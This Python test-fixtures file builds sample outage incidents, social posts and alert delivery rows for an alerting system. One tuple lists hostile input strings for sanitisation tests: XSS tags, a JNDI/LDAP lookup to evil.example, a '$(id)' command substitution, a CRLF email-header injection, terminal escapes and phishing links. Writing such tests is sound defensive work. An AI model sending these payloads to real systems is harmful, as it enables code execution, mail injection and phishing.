"""Incidents, posts and rows that the tests of alerts use."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from alerts.outbox import Outbox
from alerts.routing import Routing
from ingest.records import Delivery, Evidence, Incident, Official, Service

NOON = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
MINUTE = timedelta(minutes=1)
SECRET = "whsec_" + "c2VjcmV0LWZvci10ZXN0cy1vbmx5LW5vLXJlYWwtb25l"
OLD_SECRET = "whsec_" + "b2xkLXNlY3JldC1mb3ItdGVzdHMtb25seS1ub3QtcmVhbA=="

SERVICE = Service("Character.AI", category="ai", status_page="https://status.character.example")

HOSTILE = (
    "<!channel> <!here> <@U123> <#C123> @everyone @here <@&999> <@123456789012345678> @channel",
    "[free fix](https://evil.example/login) <https://evil.example|status.character.ai> ![x](https://evil.example/p.png)",
    "**bold** _it_ ~~no~~ `code` ```block``` # heading\n> quote\n- item ||spoiler||",
    "<script>alert(1)</script><img src=x onerror=alert(1)><a href='https://evil.example'>ok</a> &lt;b&gt;",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x9b2J \x07\x08\x08\x08gone",
    "down\r\nBcc: victim@example.com\r\nSubject: pwned\r\n\r\nhello",
    "\u202edetrever si siht\u202c \u2066hidden\u2069 zero\u200bwidth\ufeff \u2028line\u2029para",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334a\u0341\u0301lgo " + "A" * 4000,
    '"}],"text":"broken json',
    "{{ title }} {% raw %} $(id) %s %(x)s ${jndi:ldap://evil.example/a}",
    "https://evil.example/?token=abc https://user:pw@evil.example/",
    "\ud83d\ude00 family \U0001f468\u200d\U0001f469\u200d\U0001f467 it is down",
)


def incident(state: str = "confirmed", **changes: object) -> Incident:
    """An outage in the state asked for, as it was right after it got there."""
    moments = {
        "suspected": {"updated_at": NOON},
        "confirmed": {"confirmed_at": NOON + 2 * MINUTE, "updated_at": NOON + 2 * MINUTE},
        "recovering": {"recovering_at": NOON + 40 * MINUTE, "updated_at": NOON + 40 * MINUTE},
        "resolved": {"resolved_at": NOON + 60 * MINUTE, "updated_at": NOON + 60 * MINUTE},
    }
    found: dict[str, object] = {}
    for name, moment in moments.items():
        found |= moment
        if name == state:
            break
    basis = Incident(
        id="inc_1",
        service="Character.AI",
        signal="outage",
        state=state,  # type: ignore[arg-type]
        onset_at=NOON - 10 * MINUTE,
        opened_at=NOON,
        severity="major",
        severity_reason="70 times as many reports as usual",
        confidence=0.97,
        confidence_reason="many distinct people at two sources",
        posts=260,
        authors=214,
        observed=214.0,
        expected=3.1,
        evidence=55.0,
    )
    return replace(basis, **(found | changes))  # type: ignore[arg-type]


def posts(texts: Sequence[str] = ("c.ai is down again", "login fails for me too")) -> list[Evidence]:
    """One post by a person each."""
    return [
        Evidence(
            post=f"bluesky:{number}",
            author=f"author{number}",
            url=f"https://bsky.example/profile/a/post/{number}",
            text=text,
            created_at=NOON - MINUTE,
            reason="says that it is down",
            aspects=("fails:login", "cause:overload", "place:London"),
        )
        for number, text in enumerate(texts)
    ]


def official(minutes_after: int = 7) -> Official:
    """The status page's first word."""
    at = NOON + minutes_after * MINUTE
    return Official("off_1", "Character.AI", "investigating", at, "Errors when logging in", url="https://s.example/1")


def outbox(*channels: str) -> Outbox:
    """An outbox in which every channel gets everything."""
    return Outbox(Routing(channels), [SERVICE], page="http://127.0.0.1:8501")


def row(channel: str = "hook", state: str = "confirmed", **changes: object) -> Delivery:
    """The row for one channel about one change."""
    return outbox(channel).changed(incident(state, **changes), posts(), [official()], ["bluesky"])[0]


def story(channel: str = "hook", identifier: str = "inc_1", service: str = "Character.AI") -> list[Delivery]:
    """The rows of a whole incident in order: suspected, confirmed, recovering, resolved."""
    states = ("suspected", "confirmed", "recovering", "resolved")
    return [row(channel, state, id=identifier, service=service) for state in states]
